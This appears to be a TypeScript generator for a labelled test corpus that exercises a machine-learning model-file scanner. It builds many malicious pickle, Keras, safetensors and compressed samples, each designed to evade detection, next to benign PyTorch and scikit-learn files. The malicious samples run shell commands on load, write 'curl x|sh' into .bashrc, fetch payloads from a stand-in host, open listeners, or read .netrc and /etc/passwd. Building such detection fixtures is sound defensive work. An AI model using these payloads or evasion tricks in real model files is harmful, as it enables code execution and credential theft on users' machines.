/**
 * The labeled scanner corpus: every bypass style of issue 17 in several variants, the bypass styles the
 * scanner already knew, and real-world benign shapes (PyTorch, scikit-learn/joblib, numpy, pandas,
 * Keras, safetensors, GGUF, ONNX, TensorFlow, notebooks, dependency files). Each malicious file carries
 * the severity a careful reviewer gives it: `critical` when loading it runs code, starts a process,
 * writes a file or opens a connection; `high` when it cannot be verified or points at something inert
 * but dangerous. Every file is generated here; nothing is downloaded.
 */
import { gzipSync, strToU8, zipSync, zlibSync } from 'fflate';
import { maliciousPickle, PickleWriter, u64 } from '../fixtures/pickle-writer.js';
import { gguf, h5, npy, onnxWithExternal, savedModel } from '../fixtures/samples.js';
import { call, dict, dumps, float, global, instance, type Py, tuple } from './pickler.js';
import {
  columnTransformer,
  dataFrame,
  decisionTree,
  dtype,
  estimator,
  joblibArray,
  joblibLogistic,
  joblibScaler,
  logisticRegression,
  ndarray,
  ndarray5,
  pipeline,
  randomForest,
  scalar,
  standardScaler,
  stringArray,
  torchLegacy,
  torchStateDict,
  torchZip,
  weights,
} from './python-objects.js';

export type Label = 'benign' | 'high' | 'critical';

export interface CorpusFile {
  path: string;
  data: Uint8Array | string;
  label: Label;
  /** Bypass style or benign shape, for the per-category table. */
  category: string;
}

const te = new TextEncoder();

/** `module.name(*args)` via GLOBAL or STACK_GLOBAL and REDUCE. */
function gadget(module: string, name: string, args: Py[], protocol = 2): Uint8Array {
  return dumps(call(module, name, ...args), protocol);
}

/** The same call hidden inside a benign-looking structure (a dict of hyper-parameters). */
function gadgetInDict(module: string, name: string, args: Py[]): Uint8Array {
  return dumps(
    dict({ lr: float(0.001), epochs: 10, callback: call(module, name, ...args), tags: ['prod'] }),
    4,
  );
}

function stdlibGadgets(): CorpusFile[] {
  const g = (path: string, data: Uint8Array, label: Label = 'critical') => ({
    path: `stdlib-gadgets/${path}`,
    data,
    label,
    category: 'stdlib gadget outside a deny list',
  });
  return [
    g('file-handler.pkl', gadget('logging', 'FileHandler', ['/home/user/.bashrc', 'a'])),
    g('rotating-handler.pkl', gadget('logging.handlers', 'RotatingFileHandler', ['/etc/cron.d/job', 'a'], 4)),
    g('timed-handler.pkl', gadgetInDict('logging.handlers', 'TimedRotatingFileHandler', ['/tmp/x.log'])),
    g('watched-handler.pkl', gadget('logging.handlers', 'WatchedFileHandler', ['/tmp/w.log', 'a'], 3)),
    g('syslog-handler.pkl', gadget('logging.handlers', 'SysLogHandler', [tuple('203.0.113.9', 514)], 4)),
    g('basic-config.pkl', gadget('logging', 'basicConfig', [], 2)),
    g(
      'dict-config.pkl',
      gadget(
        'logging.config',
        'dictConfig',
        [dict({ version: 1, handlers: dict({ h: dict({ '()': 'os.system', cmd: 'id' }) }) })],
        4,
      ),
    ),
    g('smtp.pkl', gadget('smtplib', 'SMTP', ['203.0.113.9', 25], 4)),
    g('ftp.pkl', gadget('ftplib', 'FTP', ['203.0.113.9'], 2)),
    g('imap-stream.pkl', gadget('imaplib', 'IMAP4_stream', ['sh -c id'], 4)),
    g('nntp.pkl', gadget('nntplib', 'NNTP', ['203.0.113.9'], 4)),
    g('pipepager.pkl', gadget('pydoc', 'pipepager', ['text', 'sh -c id'], 4)),
    g('uuid-command.pkl', gadget('uuid', '_get_command_stdout', ['sh', '-c', 'id'], 4)),
    g('platform-popen.pkl', gadget('platform', 'architecture', ['/bin/sh'], 4)),
    g('zipfile-write.pkl', gadget('zipfile', 'ZipFile', ['/home/user/.profile', 'w'], 4)),
    g('tarfile-open.pkl', gadget('tarfile', 'open', ['/tmp/x.tar', 'w'], 2)),
    g('sqlite-connect.pkl', gadget('sqlite3', 'connect', ['/home/user/.local/x.db'], 4)),
    g('shelve-open.pkl', gadget('shelve', 'open', ['/tmp/shelf'], 4)),
    g('gzip-open.pkl', gadget('gzip', 'open', ['/tmp/out.gz', 'wb'], 3)),
    g('urlopen.pkl', gadget('urllib.request', 'urlopen', ['http://203.0.113.9/beacon'], 4)),
    g('urlretrieve.pkl', gadgetInDict('urllib.request', 'urlretrieve', ['http://203.0.113.9/x', '/tmp/x'])),
    g('venv-create.pkl', gadget('venv', 'create', ['/tmp/venv'], 4)),
    g('ensurepip.pkl', gadget('ensurepip', 'bootstrap', [], 4)),
    g('site-addsitedir.pkl', gadget('site', 'addsitedir', ['/tmp/evil'], 4)),
    g(
      'path-write-text.pkl',
      dumps(
        call('pathlib', 'Path.write_text', call('pathlib', 'Path', '/home/user/.bashrc'), 'curl x|sh'),
        4,
      ),
    ),
    g('mailbox.pkl', gadget('mailbox', 'mbox', ['/tmp/mbox'], 4)),
    g(
      'socketserver.pkl',
      gadget(
        'socketserver',
        'TCPServer',
        [tuple('0.0.0.0', 4444), global('socketserver', 'BaseRequestHandler')],
        4,
      ),
    ),
    g('telnet.pkl', gadget('telnetlib', 'Telnet', ['203.0.113.9', 23], 4)),
    g('doctest-debug.pkl', gadget('doctest', 'debug_script', ['import os; os.system("id")'], 4)),
    g('dbm-open.pkl', gadget('dbm', 'open', ['/tmp/cache', 'c'], 4)),
    g('wave-open.pkl', gadget('wave', 'open', ['/tmp/x.wav', 'wb'], 2)),
    g(
      'py-compile.pkl',
      gadget('py_compile', 'compile', ['/tmp/x.py', '/usr/lib/python3/dist-packages/sitecustomize.pyc'], 4),
    ),
    g('lzma-file.pkl', gadget('lzma', 'LZMAFile', ['/tmp/x.xz', 'w'], 4)),
    g('bz2-file.pkl', gadgetInDict('bz2', 'BZ2File', ['/tmp/x.bz2', 'w'])),
    g(
      'spawnv-passfds.pkl',
      gadget('multiprocessing.util', 'spawnv_passfds', ['/bin/sh', ['sh', '-c', 'id'], tuple()], 4),
    ),
    g('zipapp.pkl', gadget('zipapp', 'create_archive', ['/tmp/src', '/tmp/app.pyz'], 4)),
    // Read files into the object (leaks data if the object is saved again): not code, still not a model's business.
    // Python 2 names the unpickler renames below protocol 3 (`dumbdbm` is `dbm.dumb`).
    g('py2-dumbdbm.pkl', gadget('dumbdbm', 'open', ['/tmp/db', 'c'], 2)),
    g(
      'py2-httpserver.pkl',
      gadget(
        'BaseHTTPServer',
        'HTTPServer',
        [tuple('0.0.0.0', 8000), global('SimpleHTTPServer', 'SimpleHTTPRequestHandler')],
        2,
      ),
    ),
    g('netrc-read.pkl', gadget('netrc', 'netrc', ['/home/user/.netrc'], 4), 'high'),
    g('mimetypes-read.pkl', gadget('mimetypes', 'read_mime_types', ['/etc/passwd'], 4), 'high'),
    // Inert when built, still not something a model file has any business importing.
    g('socket-handler.pkl', gadget('logging.handlers', 'SocketHandler', ['203.0.113.9', 9020], 4), 'high'),
    g('xmlrpc-proxy.pkl', gadget('xmlrpc.client', 'ServerProxy', ['http://203.0.113.9/'], 4), 'high'),
    g('http-connection.pkl', gadget('http.client', 'HTTPSConnection', ['203.0.113.9'], 4), 'high'),
    // Hidden inside a scikit-learn pipeline, as a step.
    g(
      'pipeline-step.joblib',
      dumps(
        pipeline([
          ['scale', standardScaler(2)],
          ['hook', call('logging', 'FileHandler', '/tmp/p', 'a')],
        ]),
        4,
      ),
    ),
  ];
}

/** Memo plus BUILD (or item opcodes) that change a module or class at load time. */
function mutations(): CorpusFile[] {
  const m = (path: string, data: Uint8Array) => ({
    path: `mutation/${path}`,
    data,
    label: 'critical' as Label,
    category: 'memo + BUILD mutating a module',
  });
  // 1. A module object from the memo, its attribute replaced through BUILD's slot state.
  const w1 = new PickleWriter()
    .proto(4)
    .stackGlobal('collections', 'abc')
    .put(1)
    .op('POP')
    .get(1)
    .op('NONE')
    .op('EMPTY_DICT')
    .str('Mapping')
    .stackGlobal('builtins', 'dict')
    .op('SETITEM')
    .op('TUPLE2')
    .op('BUILD')
    .op('POP')
    .stackGlobal('collections.abc', 'Mapping')
    .op('STOP');
  // 2. A class's __init__ replaced, then the class called.
  const w2 = new PickleWriter()
    .proto(2)
    .global('uuid', 'UUID')
    .put(0)
    .op('NONE')
    .op('EMPTY_DICT')
    .str('__init__')
    .global('builtins', 'print')
    .op('SETITEM')
    .op('TUPLE2')
    .op('BUILD')
    .op('POP')
    .get(0)
    .str('x')
    .op('TUPLE1')
    .op('REDUCE')
    .stop();
  // 3. copyreg's extension registry filled with SETITEMS, then EXT1 resolving through it.
  const w3 = new PickleWriter()
    .proto(2)
    .global('copyreg', '_inverted_registry')
    .op('MARK')
    .int(240)
    .str('posix')
    .str('system')
    .op('TUPLE2')
    .op('SETITEMS')
    .op('POP')
    .op('EXT1', 240)
    .str('id')
    .op('TUPLE1')
    .op('REDUCE')
    .stop();
  // 4. The same through the memo, in protocol 4 with MEMOIZE.
  const w4 = new PickleWriter()
    .proto(4)
    .stackGlobal('copyreg', '_inverted_registry')
    .op('MEMOIZE')
    .op('POP')
    .get(0)
    .int(99)
    .str('os')
    .str('system')
    .op('TUPLE2')
    .op('SETITEM')
    .op('POP')
    .op('EXT1', 99)
    .str('id')
    .op('TUPLE1')
    .op('REDUCE')
    .stop();
  // 5. A Python class's method replaced through BUILD, then used.
  const w5 = new PickleWriter()
    .proto(2)
    .global('json.decoder', 'JSONDecoder')
    .put(0)
    .op('NONE')
    .op('EMPTY_DICT')
    .str('decode')
    .global('builtins', 'exec')
    .op('SETITEM')
    .op('TUPLE2')
    .op('BUILD')
    .op('EMPTY_TUPLE')
    .op('REDUCE')
    .stop();
  // 6. A module from the memo updated through BUILD with a dict state (`__dict__.update`).
  const w6 = new PickleWriter()
    .proto(4)
    .stackGlobal('json', 'decoder')
    .op('MEMOIZE')
    .op('EMPTY_DICT')
    .str('scanstring')
    .stackGlobal('builtins', 'eval')
    .op('SETITEM')
    .op('BUILD')
    .op('STOP');
  return [
    m('module-dict.pkl', w6.build()),
    m('module-attr.pkl', w1.build()),
    m('class-init.pkl', w2.build()),
    m('ext-registry.pkl', w3.build()),
    m('ext-registry-memo.pkl', w4.build()),
    m('class-reduce.pkl', w5.build()),
  ];
}

/** STACK_GLOBAL whose module/name strings come out of a call to an allowed function. */
function computedGlobals(): CorpusFile[] {
  const c = (path: string, data: Uint8Array) => ({
    path: `computed-global/${path}`,
    data,
    label: 'critical' as Label,
    category: 'STACK_GLOBAL operands from an allowed function',
  });
  const viaStr = new PickleWriter()
    .proto(4)
    .stackGlobal('builtins', 'str')
    .op('MEMOIZE')
    .bytes_(te.encode('posix'))
    .str('ascii')
    .op('TUPLE2')
    .op('REDUCE')
    .get(0)
    .bytes_(te.encode('system'))
    .str('ascii')
    .op('TUPLE2')
    .op('REDUCE')
    .op('STACK_GLOBAL')
    .str('id')
    .op('TUPLE1')
    .op('REDUCE')
    .stop();
  const viaReconstructor = new PickleWriter()
    .proto(4)
    .stackGlobal('copyreg', '_reconstructor')
    .op('MEMOIZE')
    .stackGlobal('builtins', 'str')
    .op('MEMOIZE')
    .op('DUP')
    .str('subprocess')
    .op('TUPLE3')
    .op('REDUCE')
    .get(0)
    .get(1)
    .op('DUP')
    .str('getoutput')
    .op('TUPLE3')
    .op('REDUCE')
    .op('STACK_GLOBAL')
    .str('id')
    .op('TUPLE1')
    .op('REDUCE')
    .stop();
  const viaNewobj = new PickleWriter()
    .proto(4)
    .stackGlobal('builtins', 'str')
    .op('MEMOIZE')
    .str('o')
    .op('TUPLE1')
    .op('NEWOBJ')
    .op('POP')
    .get(0)
    .str('nt')
    .op('TUPLE1')
    .op('NEWOBJ')
    .get(0)
    .str('system')
    .op('TUPLE1')
    .op('NEWOBJ')
    .op('STACK_GLOBAL')
    .str('calc')
    .op('TUPLE1')
    .op('REDUCE')
    .stop();
  // Operands from a function that is not folded (codecs.decode rot13): unknown target, then called.
  const viaRot13 = new PickleWriter()
    .proto(4)
    .stackGlobal('codecs', 'decode')
    .op('MEMOIZE')
    .str('bf')
    .str('rot13')
    .op('TUPLE2')
    .op('REDUCE')
    .get(0)
    .str('flfgrz')
    .str('rot13')
    .op('TUPLE2')
    .op('REDUCE')
    .op('STACK_GLOBAL')
    .str('id')
    .op('TUPLE1')
    .op('REDUCE')
    .stop();
  // Module from the memo of an earlier, allowed import's string; name computed by str().
  const mixed = new PickleWriter()
    .proto(4)
    .str('os')
    .op('MEMOIZE')
    .op('POP')
    .get(0)
    .stackGlobal('builtins', 'str')
    .bytes_(te.encode('popen'))
    .str('latin1')
    .op('TUPLE2')
    .op('REDUCE')
    .op('STACK_GLOBAL')
    .str('id')
    .op('TUPLE1')
    .op('REDUCE')
    .stop();
  return [
    c('str-bytes.pkl', viaStr.build()),
    c('reconstructor.pkl', viaReconstructor.build()),
    c('newobj-str.pkl', viaNewobj.build()),
    c('rot13.pkl', viaRot13.build()),
    c('mixed.pkl', mixed.build()),
  ];
}

/** FRAME opcodes whose lengths disagree with the opcodes that follow. */
function frames(): CorpusFile[] {
  const f = (path: string, data: Uint8Array) => ({
    path: `frame/${path}`,
    data,
    label: 'critical' as Label,
    category: 'FRAME lengths that disagree with the opcodes',
  });
  const body = () =>
    new PickleWriter()
      .stackGlobal('os', 'system')
      .op('MEMOIZE')
      .str('id')
      .op('TUPLE1')
      .op('REDUCE')
      .stop()
      .build();
  const payload = body();
  // Frame shorter than its content: the payload straddles the frame end.
  const short = new PickleWriter().proto(4).frame(5).raw(payload).build();
  // Frame longer than the file: the C unpickler stops, the pure-Python one (joblib, weights_only) reads on.
  const long = new PickleWriter()
    .proto(4)
    .frame(1 << 20)
    .raw(payload)
    .build();
  // A benign frame, then a second FRAME opened before the first one ended.
  const benign = new PickleWriter().op('EMPTY_DICT').op('MEMOIZE').build();
  const nested = new PickleWriter()
    .proto(4)
    .frame(benign.length + 20)
    .raw(benign)
    .op('POP')
    .frame(payload.length)
    .raw(payload)
    .build();
  // Frame of length 0 and the payload after it, unframed.
  const zero = new PickleWriter().proto(4).frame(0).raw(payload).build();
  // A correct-looking first frame that covers a decoy STOP; the real stream continues past it.
  const decoy = new PickleWriter().op('NONE').op('POP').build();
  const tail = new PickleWriter().proto(4).frame(decoy.length).raw(decoy).raw(payload).build();
  return [
    f('short-frame.pkl', short),
    f('long-frame.pkl', long),
    f('nested-frame.pkl', nested),
    f('zero-frame.pkl', zero),
    f('frame-then-unframed.pkl', tail),
  ];
}

/** Compressed pickles under compound names. */
function compressed(): CorpusFile[] {
  const c = (path: string, data: Uint8Array) => ({
    path: `compressed/${path}`,
    data,
    label: 'critical' as Label,
    category: 'compressed pickle (.pkl.gz and friends)',
  });
  const evil = maliciousPickle(4, 'subprocess', 'check_output');
  const torchEvil = torchZip({ pickle: maliciousPickle(2), storages: [] });
  return [
    c('model.pkl.gz', gzipSync(evil)),
    c('model.pickle.gz', gzipSync(maliciousPickle(2))),
    c('model.joblib.gz', gzipSync(dumps(pipeline([['x', call('os', 'system', 'id')]]), 4))),
    c('weights.pt.gz', gzipSync(torchEvil)),
    c('model.pkl.z', zlibSync(evil)),
    c('archive.gz', gzipSync(maliciousPickle(3, 'builtins', 'exec'))),
    c('model-gzip.joblib', gzipSync(maliciousPickle(4, 'os', 'popen'))),
    c('double.pkl.gz.gz', gzipSync(gzipSync(maliciousPickle(2)))),
  ];
}

function kerasConfigWith(layer: object): string {
  return JSON.stringify({
    class_name: 'Functional',
    config: {
      name: 'model',
      layers: [
        {
          class_name: 'InputLayer',
          config: { name: 'input', batch_shape: [null, 8] },
          module: 'keras.layers',
        },
        { class_name: 'Dense', config: { name: 'dense', units: 4 }, module: 'keras.layers' },
        layer,
      ],
    },
    module: 'keras.src.models.functional',
  });
}

function kerasZip(config: string): Uint8Array {
  return zipSync(
    {
      'config.json': strToU8(config),
      'metadata.json': strToU8('{"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}'),
      'model.weights.h5': new Uint8Array(64),
    },
    { level: 0 },
  );
}

/** Keras layers that load an external SavedModel, and config-level gadget calls. */
function kerasExternal(): CorpusFile[] {
  const k = (path: string, data: Uint8Array) => ({
    path: `keras-external/${path}`,
    data,
    label: 'critical' as Label,
    category: 'Keras layer loading an external SavedModel',
  });
  const tfsm = (filepath: string, module = 'keras.layers') => ({
    class_name: 'TFSMLayer',
    module,
    config: { name: 'tfsm', filepath, call_endpoint: 'serve', trainable: false },
    registered_name: null,
  });
  const hub = {
    class_name: 'KerasLayer',
    module: 'tensorflow_hub.keras_layer',
    config: { name: 'hub', handle: 'https://203.0.113.9/savedmodel', trainable: false },
  };
  return [
    k('tfsm.keras', kerasZip(kerasConfigWith(tfsm('/tmp/attacker_savedmodel')))),
    k('tfsm-relative.keras', kerasZip(kerasConfigWith(tfsm('../../shared/exported')))),
    k(
      'tfsm-src-module.keras',
      kerasZip(kerasConfigWith(tfsm('/mnt/models/sm', 'keras.src.export.tfsm_layer'))),
    ),
    k('tfsm.h5', h5(kerasConfigWith(tfsm('/srv/sm')))),
    k('hub-layer.keras', kerasZip(kerasConfigWith(hub))),
    k('hub-layer.h5', h5(kerasConfigWith(hub))),
    k(
      'get-file.keras',
      kerasZip(
        kerasConfigWith({
          class_name: 'Lambda',
          module: 'keras.layers',
          config: {
            name: 'fetch',
            function: {
              module: 'keras.utils',
              class_name: 'function',
              config: 'get_file',
              registered_name: 'function',
            },
            arguments: { origin: 'https://203.0.113.9/payload', fname: '/home/user/.bashrc' },
          },
        }),
      ),
    ),
    k(
      'unsafe-deserialization.keras',
      kerasZip(
        kerasConfigWith({
          class_name: 'Lambda',
          module: 'keras.layers',
          config: {
            name: 'flip',
            function: {
              module: 'keras.config',
              class_name: 'function',
              config: 'enable_unsafe_deserialization',
              registered_name: 'function',
            },
          },
        }),
      ),
    ),
  ];
}

/** safetensors with an impossible header length, or a header that is JSON but not an object. */
function safetensorsHeaders(): CorpusFile[] {
  const s = (path: string, data: Uint8Array) => ({
    path: `safetensors/${path}`,
    data,
    label: 'high' as Label,
    category: 'safetensors header impossible or not an object',
  });
  const withHeader = (len: number | undefined, header: string, data = 16) => {
    const h = strToU8(header);
    return new Uint8Array([...u64(len ?? h.length), ...h, ...new Uint8Array(data)]);
  };
  const good = '{"w":{"dtype":"F32","shape":[2,2],"data_offsets":[0,16]}}';
  return [
    s('beyond-file.safetensors', withHeader(5000, good)),
    s('over-100mb.safetensors', withHeader(150_000_000, good)),
    s(
      'huge-u64.safetensors',
      new Uint8Array([0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x7f, ...strToU8(good)]),
    ),
    s('json-array.safetensors', withHeader(undefined, '[]', 16)),
    s('json-array-long.safetensors', withHeader(undefined, '[{"dtype":"F32"}, 1.5]', 8)),
    s('json-string.safetensors', withHeader(undefined, '"hello"', 8)),
    s('json-number.safetensors', withHeader(undefined, '1e99', 8)),
    s('json-null.safetensors', withHeader(undefined, 'null', 8)),
  ];
}

/** Bypass styles the scanner handled before issue 17, kept in the corpus so they stay handled. */
function knownStyles(): CorpusFile[] {
  const k = (path: string, data: Uint8Array) => ({
    path: `known/${path}`,
    data,
    label: 'critical' as Label,
    category: 'earlier bypass styles',
  });
  const nested = new PickleWriter()
    .proto(3)
    .global('torch.storage', '_load_from_bytes')
    .bytes_(maliciousPickle(2))
    .op('TUPLE1')
    .op('REDUCE')
    .stop()
    .build();
  const concatenated = new Uint8Array([...dumps(dict({ a: 1 }), 2), ...maliciousPickle(2)]);
  const inst = new PickleWriter().op('MARK').string0('id').inst('subprocess', 'Popen').stop().build();
  const traversal = new PickleWriter()
    .proto(4)
    .stackGlobal('torch', 'serialization.os.system')
    .str('id')
    .op('TUPLE1')
    .op('REDUCE')
    .stop()
    .build();
  const joblibObject = dumps(dict({ model: joblibArray('O8', [1], [call('os', 'system', 'id')]) }), 4);
  return [
    k('nested-bytes.pkl', nested),
    k('concatenated.pkl', concatenated),
    k('renamed.txt', maliciousPickle(2, 'builtins', 'exec')),
    k('proto0-inst.pkl', inst),
    k('traversal.pkl', traversal),
    k('torch-evil.pt', torchZip({ pickle: maliciousPickle(2), storages: [] })),
    k(
      'hidden-entry.pt',
      zipSync(
        {
          'archive/data.pkl': torchStateDict([['w', 'FloatStorage', [2]]]).pickle,
          'archive/extra/notes.txt': maliciousPickle(4),
        },
        { level: 0 },
      ),
    ),
    k('object-array.npy', npy('|O', '(1,)', maliciousPickle(2))),
    k('joblib-object-array.joblib', joblibObject),
    k('legacy-torch.bin', torchLegacy({ pickle: maliciousPickle(2), storages: [] })),
  ];
}

// ---- benign shapes -------------------------------------------------------------------------------

function benignTorch(): CorpusFile[] {
  const b = (path: string, data: Uint8Array) => ({
    path: `benign/torch/${path}`,
    data,
    label: 'benign' as Label,
    category: 'benign: PyTorch',
  });
  const mlp = torchStateDict([
    ['fc1.weight', 'FloatStorage', [16, 8]],
    ['fc1.bias', 'FloatStorage', [16]],
    ['fc2.weight', 'FloatStorage', [2, 16]],
    ['fc2.bias', 'FloatStorage', [2]],
  ]);
  const half = torchStateDict([
    ['embed.weight', 'HalfStorage', [32, 8]],
    ['ln.weight', 'HalfStorage', [8]],
  ]);
  const bf16 = torchStateDict([['lm_head.weight', 'BFloat16Storage', [16, 8]]]);
  const cnn = torchStateDict([
    ['conv1.weight', 'FloatStorage', [4, 1, 3, 3]],
    ['bn1.running_mean', 'FloatStorage', [4]],
    ['bn1.num_batches_tracked', 'LongStorage', [1]],
  ]);
  // A training checkpoint: model, optimizer state, epoch, hyper-parameters.
  const ckpt = dumps(
    dict({
      epoch: 12,
      global_step: 3400,
      state_dict: dict({ w: ndarray('f4', [4, 4]) }),
      optimizer: dict({
        state: dict([[0, dict({ step: 10, exp_avg: ndarray('f4', [4]) })]]),
        param_groups: [dict({ lr: float(0.001), betas: tuple(float(0.9), float(0.999)), weight_decay: 0 })],
      }),
      hyper_parameters: instance('lightning.fabric.utilities.data', 'AttributeDict', dict({}), []),
      pytorch_lightning_version: '2.1.0',
    }),
    2,
  );
  const trainingArgs = dumps(
    instance(
      'transformers.training_args',
      'TrainingArguments',
      dict({
        output_dir: 'out',
        learning_rate: float(5e-5),
        num_train_epochs: float(3),
        evaluation_strategy: call('transformers.trainer_utils', 'IntervalStrategy', 'epoch'),
        lr_scheduler_type: call('transformers.trainer_utils', 'SchedulerType', 'linear'),
        optim: call('transformers.training_args', 'OptimizerNames', 'adamw_torch'),
        hub_strategy: call('transformers.trainer_utils', 'HubStrategy', 'every_save'),
        logging_dir: 'out/runs',
        report_to: ['tensorboard'],
      }),
    ),
    4,
  );
  return [
    b('mlp.pt', torchZip(mlp)),
    b('half.pth', torchZip(half, 'model')),
    b('bf16.bin', torchZip(bf16, 'pytorch_model')),
    b('cnn.ckpt', torchZip(cnn)),
    b('legacy.pt', torchLegacy(mlp)),
    b(
      'lightning.ckpt',
      zipSync({ 'archive/data.pkl': ckpt, 'archive/version': strToU8('3\n') }, { level: 0 }),
    ),
    b(
      'training_args.bin',
      zipSync(
        { 'training_args/data.pkl': trainingArgs, 'training_args/version': strToU8('3\n') },
        { level: 0 },
      ),
    ),
    b('optimizer.pt', torchZip(torchStateDict([['state.0.exp_avg', 'FloatStorage', [8]]]))),
    b(
      'resnet-block.pth',
      torchZip(
        torchStateDict(
          ['conv1', 'bn1', 'conv2', 'bn2', 'downsample.0', 'downsample.1'].flatMap(
            (l): Array<[string, string, number[]]> => [
              [`layer1.0.${l}.weight`, 'FloatStorage', [8, 8]],
              [`layer1.0.${l}.bias`, 'FloatStorage', [8]],
            ],
          ),
        ),
      ),
    ),
    b(
      'embedding.pt',
      torchZip(
        torchStateDict([
          ['tok.weight', 'FloatStorage', [100, 16]],
          ['pos.ids', 'LongStorage', [1, 32]],
        ]),
      ),
    ),
  ];
}

function benignSklearn(): CorpusFile[] {
  const b = (path: string, data: Uint8Array) => ({
    path: `benign/sklearn/${path}`,
    data,
    label: 'benign' as Label,
    category: 'benign: scikit-learn / joblib',
  });
  const joblibPipe = dumps(
    pipeline([
      ['scale', joblibScaler(4)],
      ['clf', joblibLogistic(4)],
    ]),
    4,
  );
  const joblibNamed = dumps(
    pipeline([
      ['scale', joblibScaler(3)],
      ['clf', joblibLogistic(3, ['age', 'income', 'city'])],
    ]),
    4,
  );
  const joblibForest = dumps(
    estimator('sklearn.ensemble._forest', 'RandomForestRegressor', {
      n_estimators: 2,
      estimators_: [
        estimator('sklearn.tree._classes', 'DecisionTreeRegressor', {
          tree_: {
            reduce: global('sklearn.tree._tree', 'Tree'),
            args: [4, joblibArray('i8', [1]), 1],
            state: dict({
              max_depth: 2,
              node_count: 3,
              nodes: joblibArray('V56', [3], undefined, [
                ['left_child', 'i8', 0],
                ['right_child', 'i8', 8],
                ['feature', 'i8', 16],
                ['threshold', 'f8', 24],
                ['impurity', 'f8', 32],
                ['n_node_samples', 'i8', 40],
                ['weighted_n_node_samples', 'f8', 48],
              ]),
              values: joblibArray('f8', [3, 1, 1]),
            }),
          },
        }),
      ],
    }),
    4,
  );
  return [
    b(
      'pipeline.pkl',
      dumps(
        pipeline([
          ['scale', standardScaler(4)],
          ['clf', logisticRegression(4)],
        ]),
        4,
      ),
    ),
    b(
      'pipeline-proto2.pkl',
      dumps(
        pipeline([
          ['scale', standardScaler(4)],
          ['clf', logisticRegression(4)],
        ]),
        2,
      ),
    ),
    b(
      'pipeline-proto5.pkl',
      dumps(
        pipeline([
          ['scale', standardScaler(3)],
          ['clf', logisticRegression(3)],
        ]),
        5,
      ),
    ),
    b('tree.pkl', dumps(decisionTree('DecisionTreeClassifier'), 4)),
    b('forest.pkl', dumps(randomForest(3), 4)),
    b('column-transformer.pkl', dumps(columnTransformer(), 4)),
    b(
      'function-transformer.pkl',
      dumps(
        pipeline([
          [
            'log',
            estimator('sklearn.preprocessing._function_transformer', 'FunctionTransformer', {
              func: global('numpy.core._multiarray_umath', 'log1p'),
              inverse_func: global('numpy.core._multiarray_umath', 'expm1'),
              validate: false,
            }),
          ],
          ['clf', logisticRegression(2)],
        ]),
        4,
      ),
    ),
    b(
      'kmeans.pkl',
      dumps(
        estimator('sklearn.cluster._kmeans', 'KMeans', {
          n_clusters: 3,
          cluster_centers_: ndarray('f8', [3, 2]),
          labels_: ndarray('i4', [20]),
          inertia_: float(1.5),
          n_iter_: 4,
        }),
        4,
      ),
    ),
    b(
      'svc.pkl',
      dumps(
        estimator('sklearn.svm._classes', 'SVC', {
          kernel: 'rbf',
          C: float(1),
          support_: ndarray('i4', [5]),
          support_vectors_: ndarray('f8', [5, 2]),
          _dual_coef_: ndarray('f8', [1, 5]),
          _intercept_: ndarray('f8', [1]),
          _gamma: float(0.5),
        }),
        4,
      ),
    ),
    b('pipeline.joblib', joblibPipe),
    b('named-features.joblib', joblibNamed),
    b('forest.joblib', joblibForest),
    b(
      'records-with-objects.joblib',
      dumps(
        dict({
          rows: joblibArray(
            'V12',
            [2],
            [tuple(1, 'a'), tuple(2, 'b')],
            [
              ['i', 'i4', 0],
              ['o', 'O8', 4],
            ],
          ),
        }),
        4,
      ),
    ),
    b('pipeline-zlib.joblib', zlibSync(joblibPipe)),
    b('pipeline-gzip.joblib', gzipSync(joblibPipe)),
    b(
      'model.pkl.gz',
      gzipSync(
        dumps(
          pipeline([
            ['scale', standardScaler(2)],
            ['clf', logisticRegression(2)],
          ]),
          4,
        ),
      ),
    ),
    b(
      'label-encoder.pkl',
      dumps(
        estimator('sklearn.preprocessing._label', 'LabelEncoder', {
          classes_: stringArray(['cat', 'dog', 'fish']),
        }),
        4,
      ),
    ),
    b(
      'gbm.pkl',
      dumps(
        estimator('sklearn.ensemble._gb', 'GradientBoostingClassifier', {
          n_estimators: 2,
          learning_rate: float(0.1),
          estimators_: ndarray(
            'O8',
            [2, 1],
            [decisionTree('DecisionTreeRegressor', 3), decisionTree('DecisionTreeRegressor', 3)],
          ),
          init_: estimator('sklearn.dummy', 'DummyClassifier', {
            strategy: 'prior',
            classes_: ndarray('i8', [2]),
          }),
          _rng: {
            reduce: global('numpy.random._pickle', '__randomstate_ctor'),
            args: ['MT19937', global('numpy.random._pickle', '__bit_generator_ctor')],
            state: dict({ bit_generator: 'MT19937', state: dict({ key: ndarray('u1', [8]), pos: 624 }) }),
          },
        }),
        4,
      ),
    ),
    b(
      'naive-bayes.pkl',
      dumps(
        estimator('sklearn.naive_bayes', 'GaussianNB', {
          var_smoothing: float(1e-9),
          class_count_: ndarray('f8', [2]),
          theta_: ndarray('f8', [2, 3]),
          var_: ndarray('f8', [2, 3]),
        }),
        4,
      ),
    ),
    b(
      'pca.joblib',
      dumps(
        estimator('sklearn.decomposition._pca', 'PCA', {
          n_components: 2,
          components_: joblibArray('f8', [2, 4]),
          explained_variance_: joblibArray('f8', [2]),
          mean_: joblibArray('f8', [4]),
        }),
        4,
      ),
    ),
    b(
      'tfidf.pkl',
      dumps(
        estimator('sklearn.feature_extraction.text', 'TfidfVectorizer', {
          lowercase: true,
          dtype: global('numpy', 'float64'),
          vocabulary_: dict({ cat: 0, dog: 1, fish: 2 }),
          _tfidf: estimator('sklearn.feature_extraction.text', 'TfidfTransformer', {
            norm: 'l2',
            idf_: ndarray('f8', [3]),
          }),
          stop_words_: { set: ['the', 'a'] },
        }),
        4,
      ),
    ),
    b(
      'isolation-forest.joblib',
      dumps(
        estimator('sklearn.ensemble._iforest', 'IsolationForest', {
          n_estimators: 1,
          estimators_: [decisionTree('DecisionTreeRegressor', 3)],
          offset_: float(-0.5),
          _max_features: 4,
        }),
        4,
      ),
    ),
    // Shapes from real scikit-learn 1.2 / pandas 1.5 pickles: private classes, Cython reconstructors,
    // functions stored as parameters, scipy's lower-case sparse classes.
    b(
      'calibrated.pkl',
      dumps(
        estimator('sklearn.calibration', 'CalibratedClassifierCV', {
          cv: 2,
          calibrated_classifiers_: [
            instance(
              'sklearn.calibration',
              '_CalibratedClassifier',
              dict({
                estimator: logisticRegression(2),
                calibrators: [
                  instance(
                    'sklearn.calibration',
                    '_SigmoidCalibration',
                    dict({ a_: float(-1), b_: float(0.1) }),
                  ),
                ],
                method: 'sigmoid',
              }),
